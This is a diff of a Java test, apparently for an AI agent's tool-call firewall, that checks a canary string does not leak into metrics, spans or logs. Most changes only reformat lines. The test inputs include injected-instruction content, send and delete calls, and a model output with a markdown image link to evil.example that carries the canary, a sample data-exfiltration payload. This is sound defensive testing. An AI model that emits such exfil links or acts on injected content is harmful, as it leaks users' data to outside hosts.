@@ -32,8 +32,7 @@ class TellsNothingTest {
                     .addSpanProcessor(SimpleSpanProcessor.create(spans))
                     .build())
             .build();
-    private final Office office =
-            new Office(Observability.micrometer(registry).opentelemetry(telemetry));
+    private final Office office = new Office(Observability.micrometer(registry).opentelemetry(telemetry));
 
     @Test
     void canaries_inEveryInput_turnUpNowhere() {
@@ -41,7 +40,8 @@ class TellsNothingTest {
 
         assertThat(spans.getFinishedSpanItems()).hasSizeGreaterThan(30);
         assertThat(Scrape.of(registry).value("agent_firewall_calls_total")).isEqualTo(8);
-        for (String sink : List.of(registry.scrape(), spans.getFinishedSpanItems().toString(), meters(), logged)) {
+        for (String sink :
+                List.of(registry.scrape(), spans.getFinishedSpanItems().toString(), meters(), logged)) {
             assertThat(sink.toLowerCase(Locale.ROOT)).doesNotContain(CANARY.toLowerCase(Locale.ROOT));
         }
     }
@@ -54,10 +54,9 @@ class TellsNothingTest {
         guard(ToolDescriptor.declared("two words " + CANARY, Effect.READ, Map.of()), "{}");
         office.call(Office.SEND, Office.TO_BOB, CANARY + " " + Office.INJECTED);
         office.call(Office.DELETE, "{\"id\":\"" + CANARY + "\"}", CANARY);
-        office.firewall()
-                .guard(office.asked(), new ProposedCall(CANARY, Office.SEND, Office.TO_BOB), call -> {
-                    throw new IllegalStateException(CANARY);
-                });
+        office.firewall().guard(office.asked(), new ProposedCall(CANARY, Office.SEND, Office.TO_BOB), call -> {
+            throw new IllegalStateException(CANARY);
+        });
         office.read(CANARY + " " + Office.INJECTED);
         office.firewall().screen(office.asked(), Content.retrieved(CANARY, CANARY));
         office.firewall().screen(office.asked(), Content.modelOutput("![](https://evil.example/" + CANARY + ")"));
